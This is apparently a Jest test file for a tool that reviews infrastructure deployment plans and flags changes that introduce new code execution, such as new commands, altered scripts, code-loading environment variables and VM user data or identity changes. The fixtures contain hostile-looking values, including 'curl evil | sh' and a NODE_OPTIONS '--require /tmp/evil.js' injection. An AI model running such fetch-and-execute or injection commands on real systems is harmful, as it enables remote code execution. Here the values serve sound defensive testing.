import { describe, expect, test } from "@jest/globals";
import { findingLine } from "../../../../preview/findings/finding";
import { codeFindings } from "../../../../preview/findings/codeFindings";
import { review } from "../../../../preview/findings/review";
import type { PlannedResource } from "../../../../preview/plan/plan";
import { changed, planOf, planned } from "../support";

const COMMAND = "command:local:Command";
const MACHINE = "azure-native:compute:VirtualMachine";
const SCRIPT = { create: "node - create", stdin: "script" };
const there = planned(COMMAND, "ready", { operation: "same", before: SCRIPT, after: SCRIPT });

const found = (...resources: PlannedResource[]): string[] =>
    codeFindings(planOf(there, ...resources)).map((one) => `${one.level} ${one.kind}: ${findingLine(one).source}`);

describe("Code that runs where it did not before", () => {
    test.each([
        [
            "a new command",
            planned(COMMAND, "evil", { operation: "create", before: undefined, after: { create: "curl evil | sh" } }),
        ],
        [
            "a command with another script",
            planned(COMMAND, "evil", { operation: "update", before: SCRIPT, after: { ...SCRIPT, stdin: "other" } }),
        ],
        [
            "a remote command",
            planned("command:remote:Command", "evil", {
                operation: "create",
                before: undefined,
                after: { create: "id" },
            }),
        ],
        [
            "a run command",
            planned("azure-native:compute:VirtualMachineRunCommandByVirtualMachine", "evil", {
                operation: "create",
                before: undefined,
                after: {},
            }),
        ],
        [
            "a variable that was not there",
            planned(COMMAND, "evil", {
                operation: "update",
                before: SCRIPT,
                after: { ...SCRIPT, environment: { NODE_OPTIONS: "--require /tmp/evil.js" } },
            }),
        ],
        [
            "another value of a variable that leads to code",
            planned(COMMAND, "evil", {
                operation: "update",
                before: { ...SCRIPT, environment: { PATH: "/bin" } },
                after: { ...SCRIPT, environment: { PATH: "/tmp" } },
            }),
        ],
        [
            "a new VM with user data",
            planned(MACHINE, "evil", {
                operation: "create",
                before: undefined,
                after: { userData: "IyEvYmluL3NoCg==" },
            }),
        ],
        [
            "an application of the VM",
            planned(MACHINE, "evil", {
                operation: "update",
                before: {},
                after: {},
                changes: [changed("applicationProfile.galleryApplications[0]")],
            }),
        ],
        [
            "an identity of the VM",
            planned(MACHINE, "evil", {
                operation: "update",
                before: {},
                after: {},
                changes: [changed("identity.type")],
            }),
        ],
        [
            "user data of the VM",
            planned(MACHINE, "evil", { operation: "update", before: {}, after: {}, changes: [changed("userData")] }),
        ],
    ])("is found: %s", (_, resource) => {
        expect(found(resource)).toEqual([
            expect.stringMatching(/^danger hardening: \*\*Another command\*\* \(`evil`\): /),
        ]);
    });

    test.each([
        [
            "a second host's gate, which runs the same",
            planned(COMMAND, "two", { operation: "create", before: undefined, after: SCRIPT }),
        ],
        [
            "another value of a variable that is data",
            planned(COMMAND, "data", {
                operation: "update",
                before: { ...SCRIPT, environment: { VM_ID: "1" } },
                after: { ...SCRIPT, environment: { VM_ID: "2" } },
            }),
        ],
        [
            "a command that goes",
            planned(COMMAND, "gone", { operation: "delete", before: { create: "id" }, after: undefined }),
        ],
        [
            "another size of the VM",
            planned(MACHINE, "vm", {
                operation: "update",
                before: {},
                after: {},
                changes: [changed("hardwareProfile")],
            }),
        ],
    ])("is not %s", (_, resource) => {
        expect(found(resource)).toEqual([]);
    });

    test("is not judged where all of the stack is new", () => {
        const fresh = planned(COMMAND, "ready", { operation: "create", before: undefined, after: SCRIPT });
        expect(codeFindings({ ...planOf(fresh), isNew: true })).toEqual([]);
    });
});

test("A plan that knows nothing of a base that was brought up is another project's", () => {
    const plan = {
        ...planOf(planned(COMMAND, "ready", { operation: "create", before: undefined, after: SCRIPT })),
        isNew: true,
    };
    const configs = { before: {}, after: {} };
    expect(review(plan, configs, true).findings).toEqual([
        expect.objectContaining({ kind: "replace", level: "danger", title: "another project" }),
    ]);
    const fresh = review(plan, configs);
    expect(fresh.findings).toEqual([]);
    expect(fresh.notes.map(({ source }) => source)).toEqual(["The base has no such stack: everything is new."]);
});

test("An identity of a VM is one of everybody who can use its daemon", () => {
    const vm = planned(MACHINE, "vm", { operation: "update", before: {}, after: {}, changes: [changed("identity")] });
    expect(found(vm)).toEqual([expect.stringContaining("Every client of a Docker host, and every container")]);
});
